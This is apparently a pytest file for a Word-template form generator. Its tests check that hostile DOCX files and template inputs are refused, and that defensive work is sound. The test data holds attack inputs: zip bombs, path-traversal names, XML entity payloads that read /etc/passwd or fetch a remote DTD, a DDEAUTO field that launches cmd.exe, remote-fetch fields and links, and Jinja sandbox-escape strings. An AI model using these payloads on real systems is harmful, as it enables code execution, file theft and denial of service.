"""Templates and files made to do harm cost little, run nothing and are refused."""

from __future__ import annotations

import io
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from jinja2.exceptions import SecurityError, TemplateRuntimeError, TemplateSyntaxError
from sample_forms import SPEC, altered, make, paragraphs, write_template

from generator import FormError, compile_form, read_stamp
from generator.sandbox import BLOCK, CLOSE, END, OPEN, template

BODY = "word/document.xml"


def refused(path: Path) -> FormError:
    with pytest.raises(FormError) as caught:
        compile_form(path, SPEC)
    return caught.value


@pytest.mark.parametrize("data", [b"", b"PK", b"no zip at all", b"PK\x05\x06" + bytes(18)])
def test_what_is_no_docx_is_said_so(path: Path, data: bytes) -> None:
    path.write_bytes(data)
    assert refused(path).code == "not_docx"
    assert read_stamp(data) is None


def test_a_missing_file_is_an_os_error(path: Path) -> None:
    with pytest.raises(OSError):
        compile_form(path, SPEC)


def test_a_bomb_is_refused_before_it_unpacks(path: Path) -> None:
    write_template(path, "x")
    altered(path, {"word/media/a.bin": lambda _: bytes(40_000_000)})
    assert path.stat().st_size < 200_000
    assert refused(path).code == "too_large"


def test_a_text_part_too_large_to_parse_is_refused(path: Path) -> None:
    write_template(path, "x")
    altered(path, {BODY: lambda data: data + b" " * 4_000_000})
    assert refused(path).code == "too_large"


def test_many_parts_that_are_large_together_are_refused(path: Path) -> None:
    header = b'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    header += b"<w:p/>" * 60_000 + b"</w:hdr>"
    write_template(path, "x")
    altered(path, {f"word/header{n}.xml": lambda _: header for n in range(10, 14)})
    assert refused(path).code == "too_large"


def test_thousands_of_members_are_refused_unread(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        for number in range(3000):
            archive.writestr(f"m{number}", b"")
    assert refused(path).code == "too_large"
    assert read_stamp(path) is None


@pytest.mark.parametrize("name", ["../evil.xml", "/etc/evil", "word\\evil"])
def test_names_that_climb_out_are_refused(path: Path, name: str) -> None:
    write_template(path, "x")
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(name, b"x")
    assert refused(path).code == "not_docx"


def test_a_member_twice_is_refused(path: Path) -> None:
    write_template(path, "x")
    with zipfile.ZipFile(path, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr(BODY, b"<x/>")
    assert refused(path).code == "not_docx"


LAUGHS = b"".join(b'<!ENTITY a%d "%s">' % (n + 1, b"&a%d;" % n * 10) for n in range(9))
DOCTYPES = [
    b'<!DOCTYPE d [<!ENTITY a0 "ha">' + LAUGHS + b"]>",
    b'<!DOCTYPE d [<!ENTITY a "' + b"a" * 50_000 + b'">]>',
    b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    b'<!DOCTYPE d SYSTEM "http://203.0.113.1/x.dtd">',
    b'<!DOCTYPE d [<!ENTITY % p SYSTEM "http://203.0.113.1/x"> %p;]>',
]


DECLARED = (
    *("word/styles.xml", "word/settings.xml", "word/_rels/document.xml.rels"),
    *("[Content_Types].xml", "docProps/core.xml", "docProps/app.xml"),
)


@pytest.mark.parametrize(
    ("doctype", "part"),
    [(doctype, BODY) for doctype in DOCTYPES] + [(DOCTYPES[0], part) for part in DECLARED],
)
def test_entities_are_refused(path: Path, doctype: bytes, part: str) -> None:
    def declare(data: bytes) -> bytes:
        head, _, rest = data.rpartition(b"?>")
        return head + b"?>" + doctype + rest

    altered(write_template(path, "x"), {part: declare})
    assert refused(path).code in ("not_docx", "template_faults")


def test_entities_in_another_encoding_are_refused(path: Path) -> None:
    xml = '<?xml version="1.0" encoding="UTF-16"?>' + DOCTYPES[0].decode() + "<d>&a9;</d>"
    for name in ("word/header9.xml", "word/other.dat"):
        altered(write_template(path, "x"), {name: lambda _: xml.encode("utf-16")})
        assert refused(path).code == "not_docx"


def test_deep_nesting_is_refused(path: Path) -> None:
    deep = b"<w:sdt><w:sdtContent>" * 5000 + b"</w:sdtContent></w:sdt>" * 5000
    write_template(path, "x")
    altered(path, {BODY: lambda data: data.replace(b"<w:sectPr", deep + b"<w:sectPr", 1)})
    assert refused(path).code == "not_docx"


def test_members_that_overlap_cost_no_more_than_the_limit(path: Path) -> None:
    """Many directory entries that point at one body (a zip bomb without nesting)."""
    write_template(path, "x")
    altered(path, {f"word/media/{n}.bin": lambda _: bytes(15_000_000) for n in range(3)})
    assert path.stat().st_size < 200_000
    assert refused(path).code == "too_large"


@pytest.mark.parametrize(
    "damage",
    [
        lambda data: data[: len(data) // 2],
        lambda _: b"<html/>",
        lambda data: data.replace(b"schemas.openxmlformats.org/wordprocessingml", b"example.org/w"),
    ],
)
def test_damaged_or_foreign_xml_is_refused(path: Path, damage: Callable[[bytes], bytes]) -> None:
    altered(write_template(path, "x"), {BODY: damage})
    assert refused(path).code == "not_docx"


@pytest.mark.parametrize(
    "member",
    [
        "word/vbaProject.bin",
        "word/VBAPROJECT.BIN",
        "word/vbaData.xml",
        "word/activeX/activeX1.bin",
        "word/embeddings/oleObject1.bin",
        "word/ctrlProps/x.xml",
        "customUI/customUI14.xml",
    ],
)
def test_macros_and_objects_are_refused(path: Path, member: str) -> None:
    altered(write_template(path, "x"), {member: lambda _: b"<x/>"})
    assert [f.code for f in refused(path).faults] == ["active_content"]


OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NO_RELATIONS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b"</Relationships>"
)


def relate(
    kind: str, target: str = "http://203.0.113.1/x", mode: str = ' TargetMode="External"'
) -> Callable[[bytes], bytes]:
    item = f'<Relationship Id="rIdEvil" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'.encode()
    return lambda data: (data or NO_RELATIONS).replace(
        b"</Relationships>", item + b"</Relationships>"
    )


OUTSIDE = [
    ("image", "http://203.0.113.1/x.png"),
    ("image", "file:///etc/passwd"),
    ("oleObject", r"\\203.0.113.1\share\x.xls"),
    ("package", "http://203.0.113.1/x.xlsx"),
    ("aFChunk", "http://203.0.113.1/x.html"),
    ("subDocument", "http://203.0.113.1/x.docx"),
    ("frame", "http://203.0.113.1/frame.html"),
    ("mailMergeSource", r"\\203.0.113.1\x.mdb"),
    ("attachedTemplate", "http://203.0.113.1/x.dotm"),
    ("video", "http://203.0.113.1/x.mp4"),
]
RELS = ("header9.xml", "footnotes.xml", "webSettings.xml", "other.dat")


@pytest.mark.parametrize(
    ("kind", "target", "rels"),
    [(*one, "word/_rels/document.xml.rels") for one in OUTSIDE]
    + [(*OUTSIDE[0], f"word/_rels/{part}.rels") for part in RELS]
    + [(*OUTSIDE[0], "_rels/.rels")],
)
def test_parts_fetched_from_outside_are_refused(
    path: Path, kind: str, target: str, rels: str
) -> None:
    altered(write_template(path, "x"), {rels: relate(kind, target)})
    error = refused(path)
    assert error.faults[0].code == "active_content"
    assert kind in error.faults[0].message


@pytest.mark.parametrize("target", ["http://203.0.113.1/x", "//203.0.113.1/x", r"\\203.0.113.1\x"])
def test_addresses_passed_off_as_parts_are_refused(path: Path, target: str) -> None:
    altered(
        write_template(path, "x"), {"word/_rels/document.xml.rels": relate("image", target, "")}
    )
    assert refused(path).faults[0].code == "active_content"


@pytest.mark.parametrize("attribute", ["embed", "link", "pict", "href"])
def test_a_link_to_click_on_is_not_to_be_loaded(path: Path, attribute: str) -> None:
    blip = (
        '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/'
        f'main" xmlns:r="{OFFICE}" r:{attribute}="rIdEvil"/></w:drawing></w:r></w:p>'
    ).encode()
    altered(
        write_template(path, "x"),
        {
            "word/_rels/document.xml.rels": relate("hyperlink"),
            BODY: lambda data: data.replace(b"<w:sectPr", blip + b"<w:sectPr", 1),
        },
    )
    assert [f.code for f in refused(path).faults] == ["active_content"]


def test_links_to_click_on_are_allowed(path: Path) -> None:
    altered(write_template(path, "x"), {"word/_rels/document.xml.rels": relate("hyperlink")})
    assert compile_form(path, SPEC)


W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def field(*words: str) -> str:
    """A field whose instruction is spread over runs; words in braces are a field inside it."""
    runs = "".join(
        field(word[1:-1])
        if word.startswith("{")
        else f"<w:r><w:instrText>{word}</w:instrText></w:r>"
        for word in words
    )
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return mark.format("begin") + runs + mark.format("separate") + mark.format("end")


#: A part for each place, with room for a paragraph.
PLACES = {
    BODY: None,
    "word/header9.xml": f'<w:hdr xmlns:w="{W}">{{}}</w:hdr>',
    "word/footer9.xml": f'<w:ftr xmlns:w="{W}">{{}}</w:ftr>',
    "word/footnotes.xml": f'<w:footnotes xmlns:w="{W}"><w:footnote w:id="2">{{}}</w:footnote>'
    "</w:footnotes>",
    "word/comments.xml": f'<w:comments xmlns:w="{W}"><w:comment w:id="0">{{}}</w:comment>'
    "</w:comments>",
    "word/glossary/document.xml": f'<w:glossaryDocument xmlns:w="{W}">{{}}</w:glossaryDocument>',
    "word/other.dat": f'<w:document xmlns:w="{W}"><w:body>{{}}</w:body></w:document>',
}


def put(paragraph: str, place: str) -> dict[str, Callable[[bytes], bytes]]:
    """The change that puts a paragraph into a part of the template."""
    around = PLACES[place]
    if around is None:
        return {
            place: lambda data: data.replace(b"<w:sectPr", paragraph.encode() + b"<w:sectPr", 1)
        }
    return {place: lambda _: around.format(paragraph).encode()}


def boxed(paragraph: str) -> str:
    shape = '<v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox><w:txbxContent>'
    close = "</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"
    return f"<w:p><w:r><w:pict>{shape}{paragraph}{close}"


INSTRUCTIONS = [
    ("DDEAUTO c:\\Windows\\System32\\cmd.exe '/k calc'",),
    ("DDE", " cmd x"),
    ("dde a",),
    ("INC", "LUDETEXT x"),
    ("INCLUDEPICTURE http://203.0.113.1/x",),
    ("LINK Excel.Sheet x",),
    ("IMPORT x",),
    ("RD x.docx",),
    ("DATABASE x",),
    ("MACROBUTTON x",),
    ("AUTOTEXT x",),
    ("{QUOTE 68 68 69}", " cmd"),
    ("IF 1 = 1 ", "{DDE cmd x}"),
    ("IF", "{QUOTE 1}", "{INCLUDETEXT x}"),
    ("T", "{QUOTE x}", "OC"),
    ("MERGEFIELD x",),
]


@pytest.mark.parametrize(
    ("words", "place"),
    [(words, BODY) for words in INSTRUCTIONS]
    + [(INSTRUCTIONS[at], place) for at in (0, 11) for place in PLACES if place != BODY],
)
def test_fields_that_fetch_or_run_are_refused(
    path: Path, words: tuple[str, ...], place: str
) -> None:
    altered(write_template(path, "x"), put(f"<w:p>{field(*words)}</w:p>", place))
    assert {f.code for f in refused(path).faults} == {"active_content"}


def test_a_simple_field_and_one_in_a_text_box_are_seen_too(path: Path) -> None:
    simple = '<w:p><w:fldSimple w:instr=" INCLUDETEXT x "/></w:p>'
    for paragraph in (simple, boxed(f"<w:p>{field('DDE x')}</w:p>"), boxed(simple)):
        altered(write_template(path, "x"), put(paragraph, BODY))
        assert [f.code for f in refused(path).faults] == ["active_content"]


@pytest.mark.parametrize(
    "words",
    [("PAGE",), (" PAGE \\* MERGEFORMAT",), ("IF ", "{PAGE}", " = 1 a b"), ("= 1 + ", "{PAGE}")],
)
def test_fields_that_only_count_are_allowed(path: Path, words: tuple[str, ...]) -> None:
    altered(write_template(path, "x"), put(f"<w:p>{field(*words)}</w:p>", BODY))
    assert compile_form(path, SPEC)


@pytest.mark.parametrize(
    "element",
    [
        '<w:mailMerge><w:connectString w:val="Provider=x;Data Source=y"/></w:mailMerge>',
        '<w:saveThroughXslt w:solutionID="x"/>',
    ],
)
def test_settings_that_open_other_files_are_refused(path: Path, element: str) -> None:
    altered(
        write_template(path, "x"),
        {
            "word/settings.xml": lambda data: data.replace(
                b"</w:settings>", element.encode() + b"</w:settings>"
            )
        },
    )
    assert [f.code for f in refused(path).faults] == ["active_content"]


@pytest.mark.parametrize(
    ("tag", "place"),
    [(tag, BODY) for tag in ("altChunk", "object", "control", "subDoc")]
    + [("altChunk", place) for place in PLACES if place != BODY],
)
def test_other_files_and_objects_are_refused(path: Path, tag: str, place: str) -> None:
    altered(write_template(path, "x"), put(f"<w:p><w:r><w:{tag}/></w:r></w:p>", place))
    assert {f.code for f in refused(path).faults} == {"active_content"}


def test_the_authors_own_template_path_is_forgotten(path: Path) -> None:
    attach = b'<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
    attach += b'relationships" r:id="rIdEvil"/></w:settings>'
    altered(
        write_template(path, "x"),
        {
            "word/_rels/settings.xml.rels": relate("attachedTemplate"),
            "word/settings.xml": lambda data: data.replace(b"</w:settings>", attach),
        },
    )
    printed = compile_form(path, SPEC).render({})
    with zipfile.ZipFile(io.BytesIO(printed)) as archive:
        assert b"203.0.113.1" not in archive.read("word/_rels/settings.xml.rels")
        assert b"attachedTemplate" not in archive.read("word/settings.xml")


@pytest.mark.parametrize(
    "text",
    ["{{" * 400_000, "{% " * 300_000, "{{ 学校 }}" * 30_000, "｛｛" * 200_000, "}}" * 400_000],
)
def test_a_paragraph_of_nothing_but_tags_ends_soon(path: Path, text: str) -> None:
    start = time.process_time()
    write_template(path, text)
    assert refused(path).code == "template_faults"
    assert time.process_time() - start < 5


def test_a_great_many_rows_and_controls_end_soon(path: Path) -> None:
    control = b"<w:sdt><w:sdtContent><w:p><w:r><w:t>x</w:t></w:r></w:p></w:sdtContent></w:sdt>"
    write_template(path, "{{ 学校 }}")
    altered(path, {BODY: lambda d: d.replace(b"<w:sectPr", control * 13_000 + b"<w:sectPr", 1)})
    start = time.process_time()
    assert compile_form(path, SPEC)
    assert time.process_time() - start < 8


def test_a_paragraph_in_tens_of_thousands_of_runs_ends_soon(path: Path) -> None:
    runs = b"<w:p>" + b"<w:r><w:t>x</w:t></w:r>" * 45_000 + b"</w:p>"
    altered(write_template(path, "{{ 学校 }}"), put(runs.decode(), BODY))
    start = time.process_time()
    assert paragraphs(compile_form(path, SPEC).render({"学校": "甲"})) == ["甲", "x" * 45_000]
    assert time.process_time() - start < 5


def test_the_output_is_bounded(path: Path) -> None:
    form = make(path, *["{{ 取得成效 }}"] * 600)
    with pytest.raises(FormError) as caught:
        form.render({"取得成效": "长" * 50_000})
    assert caught.value.code == "too_large"


def test_code_in_a_value_is_only_text(path: Path) -> None:
    form = make(path, "：{{ 学校 }}")
    attack = f"{{{{ 7*7 }}}}{OPEN}7*7{CLOSE}{BLOCK}for x in l{END}]]><w:p/>"
    expected = "：{{ 7*7 }}7*7for x in l]]><w:p/>"
    assert paragraphs(form.render({"学校": attack})) == [expected]


def test_code_outside_tags_is_only_text(path: Path) -> None:
    """Our own delimiters in a template are dropped before the engine sees it."""
    form = make(path, f"甲{OPEN}7*7{CLOSE}{{{{ 学校 }}}}")
    assert paragraphs(form.render({"学校": "乙"})) == ["甲7*7乙"]


@pytest.mark.parametrize(
    "code",
    [
        "''.__class__.__mro__",
        "v.__class__",
        "v.append",
        "range(10)",
        "lipsum",
        "slot.__globals__",
        "v|attr('__class__')",
        "v|map('upper')",
    ],
)
def test_the_second_wall_holds_too(code: str) -> None:
    """Even if an author's words reached the engine: nothing to call, no attribute to reach."""
    with pytest.raises((SecurityError, TemplateRuntimeError, TemplateSyntaxError)):
        template(f"{OPEN}{code}{CLOSE}", ()).render({"v": []})


def test_the_second_wall_gives_no_way_to_change_values() -> None:
    values: list[int] = [1]
    with pytest.raises((SecurityError, TemplateRuntimeError)):
        template(f"{OPEN}v.clear(){CLOSE}", ()).render({"v": values})
    assert values == [1]
